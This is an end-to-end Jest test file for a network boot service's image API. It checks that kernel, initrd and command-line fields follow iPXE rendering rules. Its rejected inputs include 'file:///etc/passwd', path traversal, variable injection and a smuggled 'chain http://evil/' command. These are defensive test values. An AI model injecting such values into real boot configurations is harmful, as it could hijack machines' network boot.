import { DataSource } from 'typeorm';
import { imageBody, makeImage } from '../factories';
import { createTestApp, TestApp } from '../support/test-app';

jest.setTimeout(120_000);

/**
 * An image's kernel-boot fields are checked with the iPXE script renderer's own rules when written, so an image can't
 * be saved in a state whose boot script would fail to render.
 */
describe('image boot fields (e2e)', () => {
  let t: TestApp;
  let ds: DataSource;
  let admin: string;
  const as = (token: string) => ({ Authorization: `Bearer ${token}` });

  beforeAll(async () => {
    t = await createTestApp();
    ds = t.app.get(DataSource);
    admin = t.adminToken;
  });
  afterAll(async () => {
    await t?.close();
  });

  it('accepts http(s)/tftp kernel and initrd URLs and an ordinary command line', async () => {
    const r = await t.http
      .post('/api/v1/images')
      .set(as(admin))
      .send(
        imageBody({
          bootKernel: 'http://10.0.0.1:8080/vmlinuz',
          bootInitrd: 'tftp://10.0.0.1/initrd.img',
          bootCmdline: 'console=ttyS0,115200 quiet  rd.shell',
        }),
      )
      .expect(201);
    expect(r.body).toMatchObject({ bootKernel: 'http://10.0.0.1:8080/vmlinuz', bootInitrd: 'tftp://10.0.0.1/initrd.img' });
  });

  it("accepts a kernel and initrd named as paths of DLS's boot files root", async () => {
    const r = await t.http
      .post('/api/v1/images')
      .set(as(admin))
      .send(imageBody({ bootKernel: 'debian/vmlinuz', bootInitrd: 'debian/initrd.img' }))
      .expect(201);
    expect(r.body).toMatchObject({ bootKernel: 'debian/vmlinuz', bootInitrd: 'debian/initrd.img' });
  });

  it.each([
    ['bootKernel', '/srv/vmlinuz', 'neither an http, https or tftp URL nor a path in the boot files root'],
    ['bootKernel', 'file:///etc/passwd', 'neither an http, https or tftp URL nor a path in the boot files root'],
    ['bootKernel', 'http://x/${net0/mac}', 'must not contain $, quotes or backslashes'],
    ['bootInitrd', 'http://x/"i"', 'must not contain $, quotes or backslashes'],
    ['bootInitrd', '../initrd.img', 'neither an http, https or tftp URL nor a path in the boot files root'],
    ['bootCmdline', 'quiet || chain http://evil/', 'must not contain the iPXE command separator ||'],
    ['bootCmdline', 'root=${root}', 'must not contain $, quotes or backslashes'],
    ['bootCmdline', 'a\tb', 'only printable ASCII and spaces are allowed'],
    ['bootCmdline', ':label', 'a word must not start with # or :'],
  ])("refuses %s %j on POST and PATCH with the renderer's rule, nothing written", async (field, value, reason) => {
    const before = (await ds.query('SELECT count(*)::int AS n FROM images'))[0].n;
    const r = await t.http
      .post('/api/v1/images')
      .set(as(admin))
      .send(imageBody({ [field]: value }))
      .expect(400);
    expect(r.body.message).toEqual([expect.stringMatching(new RegExp(`^${field}: `))]);
    expect(r.body.message[0]).toContain(reason);
    expect((await ds.query('SELECT count(*)::int AS n FROM images'))[0].n).toBe(before);
    const img = await makeImage(ds, { bootKernel: 'http://10.0.0.1/k', bootCmdline: 'quiet' });
    const p = await t.http
      .patch(`/api/v1/images/${img.id}`)
      .set(as(admin))
      .send({ [field]: value })
      .expect(400);
    expect(p.body.message[0]).toContain(reason);
    expect((await ds.query('SELECT boot_kernel, boot_initrd, boot_cmdline FROM images WHERE id = $1', [img.id]))[0]).toEqual({
      boot_kernel: 'http://10.0.0.1/k',
      boot_initrd: null,
      boot_cmdline: 'quiet',
    });
  });
});
